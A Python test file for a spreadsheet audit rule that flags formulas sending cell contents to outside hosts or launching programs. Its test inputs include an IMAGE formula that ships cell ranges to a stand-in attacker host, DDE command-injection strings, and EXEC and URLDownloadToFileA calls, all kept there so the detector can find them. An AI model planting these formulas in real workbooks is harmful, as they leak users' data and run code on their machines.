"""The rule outward-formula: what leaves the workbook, and what only looks like it."""

from __future__ import annotations

from dataclasses import replace

import pytest

from tests.books import CellSpec, book, sheet
from tickmark.audit.outward_call import OutwardCall, Reach, outward_calls
from tickmark.audit.rule import Facts
from tickmark.audit.rules.broken_link import broken_link
from tickmark.audit.rules.external_link import external_link
from tickmark.audit.rules.outward_formula import outward_formula
from tickmark.model.address import RangeRef
from tickmark.model.cell_rules import ConditionalFormat, DataValidation
from tickmark.model.finding import Finding, Severity, Tier
from tickmark.model.sheet_details import SheetDetails
from tickmark.model.workbook import DefinedName, ExternalLink, Workbook
from tickmark.structure.formulas import formulas_of


def _findings(workbook: Workbook) -> list[Finding]:
    return list(outward_formula.check(Facts(workbook, formulas_of(workbook))))


def test_an_address_made_from_cells_is_high() -> None:
    text = '=_xlfn.IMAGE("https://evil.example/p?d="&TEXTJOIN(",",TRUE,B2:B40))'
    assert _findings(book({"D1": (text, "#BLOCKED!")})) == [
        Finding(
            rule="outward-formula",
            severity=Severity.HIGH,
            message="IMAGE in 1 formula (D1) calls an address that is made from cells, so that "
            'their content goes out ("https://evil.example").',
            sheet="Sheet1",
            ranges=("D1",),
            evidence={
                "function": "IMAGE",
                "found": '=IMAGE("https://evil.example/p?d="&TEXTJOIN(",",TRUE,B2:B40))',
                "host": "https://evil.example",
            },
            fix="Remove the formula; do not recalculate the workbook before that.",
            confidence=0.9,
            key='IMAGE _xlfn.IMAGE("https://evil.example/p?d="&TEXTJOIN(",",TRUE,R[1]C[-2]:R[39]C[-2]))',
        )
    ]


@pytest.mark.parametrize(
    ("formula", "function", "reach"),
    [
        ('WEBSERVICE("https://x.example/?d="&A1)', "WEBSERVICE", Reach.SENDS),
        ('_xlfn.webservice("https://x.example/?d="&A1)', "WEBSERVICE", Reach.SENDS),
        ('_xlfn.WEBSERVICE (A1&"/"&B1)', "WEBSERVICE", Reach.SENDS),
        ("WEBSERVICE(CONCAT(A1:A9))", "WEBSERVICE", Reach.SENDS),
        ('FILTERXML(WEBSERVICE("https://x.example/"&A1),"//a")', "WEBSERVICE", Reach.SENDS),
        ('LET(u,"https://x.example/?d="&A1,WEBSERVICE(u))', "WEBSERVICE", Reach.SENDS),
        ('LAMBDA(x,IMAGE("https://x.example/?d="&x))(A1)', "IMAGE", Reach.SENDS),
        ('_xludf.IMPORTDATA("https://x.example/?d="&A1)', "IMPORTDATA", Reach.SENDS),
        ('IMPORTXML("https://x.example/"&A1,"//a")', "IMPORTXML", Reach.SENDS),
        ('HYPERLINK("https://x.example/?d="&TEXTJOIN("",1,A1:A9),"x")', "HYPERLINK", Reach.SENDS),
        ('HYPERLINK("https://x.example/?d="&A1,"more")', "HYPERLINK", Reach.CLICKS),
        ('HYPERLINK("https://x.example/"&A1,"more")', "HYPERLINK", Reach.OPENS),
        ('HYPERLINK("https://x.example/","more")', "HYPERLINK", Reach.OPENS),
        ('HYPERLINK("\\\\server\\share\\a.xlsx")', "HYPERLINK", Reach.OPENS),
        ('IMAGE("https://x.example/logo.png")', "IMAGE", Reach.ASKS),
        ("IMAGE(A1)", "IMAGE", Reach.ASKS),
        ('WEBSERVICE("https://x.example/rate")', "WEBSERVICE", Reach.ASKS),
        ('IMPORTRANGE("https://docs.example/1","A1:B2")', "IMPORTRANGE", Reach.ASKS),
        ('IMPORTCSV("C:\\a.csv")', "IMPORTCSV", Reach.ASKS),
        ("_xlfn._xlws.PY(0,1,A1)", "PY", Reach.ASKS),
        ('SQL.REQUEST("DSN=x",,,"select 1")', "SQL.REQUEST", Reach.ASKS),
        ('RTD("server",,A1)', "RTD", Reach.FEEDS),
        ('STOCKHISTORY("MSFT",A1)', "STOCKHISTORY", Reach.FEEDS),
        ('CUBEVALUE("ThisWorkbookDataModel",A1)', "CUBEVALUE", Reach.FEEDS),
        ('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,A1)', "CALL", Reach.RUNS),
        ('REGISTER.ID("kernel32","Beep")', "REGISTER.ID", Reach.RUNS),
        ('EXEC("calc.exe")', "EXEC", Reach.RUNS),
        ("cmd|'/c calc'!A0", "DDE", Reach.RUNS),
        ("MSEXCEL|'\\..\\..\\calc.exe'!''", "DDE", Reach.RUNS),
        ("1+cmd|' /C calc'!_xlbgnm.A1", "DDE", Reach.RUNS),
    ],
)
def test_what_a_call_does(formula: str, function: str, reach: Reach) -> None:
    assert [(call.function, call.reach) for call in outward_calls(formula)] == [(function, reach)]


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A1:A9)",
        '"=WEBSERVICE(A1)"',
        'IF(A1="IMAGE",1,2)',
        "IMAGE*2",
        "PY+RTD",
        "Call*2",
        'HYPERLINK("#Sheet2!A1","go")',
        'HYPERLINK("#"&A1&"!A1","go")',
        'HYPERLINK("[Book.xlsx]Sheet1!A1","go")',
        "HYPERLINK(A1)",
        'HYPERLINK(A1,"site")',
        'HYPERLINK("mailto:"&A1)',
        "REGISTERED(A1)",
        "'image(1)'!A1",
        "IFERROR(A1|B1,0)",
        "Table1[Image]",
        '"a|b!c"',
    ],
)
def test_what_stays_in_the_workbook(formula: str) -> None:
    assert list(outward_calls(formula)) == []


def test_the_host_is_told_as_far_as_it_is_written() -> None:
    (call,) = outward_calls('IMAGE("https://user@x.example:8080/a/b?c=d#e")')
    assert call == OutwardCall("IMAGE", Reach.ASKS, "https://user@x.example:8080")


@pytest.mark.parametrize(
    ("formula", "severity", "tier"),
    [
        ('=HYPERLINK("https://x.example/","x")', Severity.INFO, Tier.MORE),
        ('=RTD("s",,"t")', Severity.LOW, Tier.MORE),
        ('=HYPERLINK("https://x.example/?q="&A1,"x")', Severity.MEDIUM, Tier.DEFAULT),
        ('=WEBSERVICE("https://x.example/rate")', Severity.MEDIUM, Tier.DEFAULT),
        ("=PY(0,1)", Severity.MEDIUM, Tier.DEFAULT),
        ("=cmd|'/c calc'!A0", Severity.HIGH, Tier.DEFAULT),
    ],
)
def test_how_much_it_matters(formula: str, severity: Severity, tier: Tier) -> None:
    (finding,) = _findings(book({"B2": (formula, 0)}))
    assert (finding.severity, finding.tier) == (severity, tier)


def test_one_function_on_one_sheet_is_one_finding() -> None:
    text = '=WEBSERVICE("https://x.example/?d="&A1)'
    cells: dict[str, CellSpec] = {"D9": '=WEBSERVICE("https://y.example/?d="&A2)'}
    workbook = book({"S": sheet(cells, shared={"B1:B5": text}), "T": {"A1": text}})
    assert [(f.sheet, f.ranges) for f in _findings(workbook)] == [
        ("S", ("B1:B5", "D9")),
        ("T", ("A1",)),
    ]


def test_names_validations_and_conditional_formats_are_searched() -> None:
    area = RangeRef("Sheet1", 1, 1, 9, 1)
    workbook = book({"A1": 1}, names=[DefinedName("Auto", 'EXEC("calc.exe")')])
    details = SheetDetails(
        validations=(
            DataValidation((area,), "custom", formulas=('WEBSERVICE("https://x.example/"&A1)=1',)),
        ),
        conditional_formats=(
            ConditionalFormat((area,), "expression", formulas=("cmd|'/c calc'!A0",)),
        ),
    )
    workbook = replace(workbook, sheets=(replace(workbook.sheets[0], details=details),))
    assert [(f.sheet, f.ranges, f.severity, f.message[:40]) for f in _findings(workbook)] == [
        ("", (), Severity.HIGH, 'EXEC in the defined name "Auto" starts c'),
        ("Sheet1", ("A1:A9",), Severity.HIGH, "WEBSERVICE in 1 data validation (A1:A9) "),
        ("Sheet1", ("A1:A9",), Severity.HIGH, "DDE in 1 conditional format (A1:A9) star"),
    ]


@pytest.mark.parametrize(
    ("link", "severity", "tier"),
    [
        (ExternalLink(1, "https://evil.example/b.xlsx"), Severity.MEDIUM, Tier.DEFAULT),
        (ExternalLink(1, "\\\\server\\share\\b.xlsx"), Severity.INFO, Tier.MORE),
        (ExternalLink(1, "cmd|calc", kind="dde"), Severity.HIGH, Tier.DEFAULT),
    ],
)
def test_a_link_to_a_server_or_program_is_told_here_and_by_no_other_rule(
    link: ExternalLink, severity: Severity, tier: Tier
) -> None:
    workbook = book({"A1": ("=[1]S!A1", 1), "A2": ("=[1]S!A1", 1)}, links=[link])
    facts = Facts(workbook, formulas_of(workbook))
    (finding,) = outward_formula.check(facts)
    assert (finding.severity, finding.tier, finding.ranges) == (severity, tier, ())
    assert finding.evidence["cells"] == "Sheet1!A1:A2"
    assert [*external_link.check(facts), *broken_link.check(facts)] == []


def test_a_workbook_next_to_this_one_is_left_to_other_rules() -> None:
    links = [ExternalLink(1, "prices.xlsx"), ExternalLink(2, "C:/Users/kim/a.xlsx")]
    assert _findings(book({"A1": "=[1]S!A1+[2]S!A1"}, links=links)) == []


def test_the_fingerprint_stays_when_rows_are_inserted_above() -> None:
    (before,) = _findings(book({"B2": '=WEBSERVICE("https://x.example/?d="&A2)'}))
    (after,) = _findings(book({"B9": '=WEBSERVICE("https://x.example/?d="&A9)'}))
    assert before.fingerprint == after.fingerprint
